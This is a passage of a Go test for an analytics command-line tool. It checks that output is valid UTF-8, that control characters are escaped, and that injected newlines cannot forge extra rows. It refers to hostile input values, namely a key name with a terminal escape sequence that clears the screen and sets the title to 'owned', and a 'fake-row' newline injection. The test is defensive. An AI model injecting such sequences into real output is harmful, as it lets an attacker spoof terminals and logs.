		{"fail-minutes", "-from", from, "-to", to},
		{"store-health", "-from", from, "-to", to},
	} {
		var out bytes.Buffer
		if err := run(context.Background(), args, getenv, &out); err != nil {
			t.Fatalf("analytics %s: %v\n%s", strings.Join(args, " "), err, out.String())
		}
		s := out.String()
		if !utf8.ValidString(s) {
			t.Errorf("analytics %s prints bytes that are not UTF-8:\n%q", args[0], s)
		}
		if i := strings.IndexFunc(s, func(r rune) bool {
			return r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0 || r == '\u202e')
		}); i >= 0 {
			t.Errorf("analytics %s prints the control character %q raw:\n%q", args[0], s[i:i+1], s)
		}
		if strings.Contains(s, "\nfake-row") {
			t.Errorf("analytics %s: a gateway id's newline starts a row of its own:\n%s", args[0], s)
		}
		if args[0] == "top-keys" && !strings.Contains(s, `acme\x1b[2J\x1b]0;owned\a`) {
			t.Errorf("analytics top-keys does not show the key name escaped:\n%s", s)
		}
	}
}
